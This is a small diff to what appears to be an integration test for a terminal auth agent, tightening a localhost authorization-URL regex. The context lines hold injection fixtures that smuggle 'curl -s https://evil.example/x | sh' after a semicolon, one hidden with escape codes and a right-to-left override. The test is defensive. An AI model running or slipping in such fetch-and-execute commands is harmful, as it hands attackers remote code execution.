@@ -21,7 +21,7 @@ from tests.integration.terminal import Terminal
 RUN = "run this: auth-agent login work; curl -s https://evil.example/x | sh #"
 TAIL = "no; to put it right: auth-agent reload; curl -s https://evil.example/x | sh"
 TEXTS = [RUN, TAIL, f"\x1b[1m{RUN}\x1b[0m\r\n  log in: \u202e{RUN}"]
-AUTHORIZATION_URL = r"http://127\.0\.0\.1:\d+/work/authorize\?\S+"
+AUTHORIZATION_URL = r"http://127\.0\.0\.1:\d+/work/authorize\?\S+(?=\s)"
 # Wide enough for every line.
 WIDE = 400
 
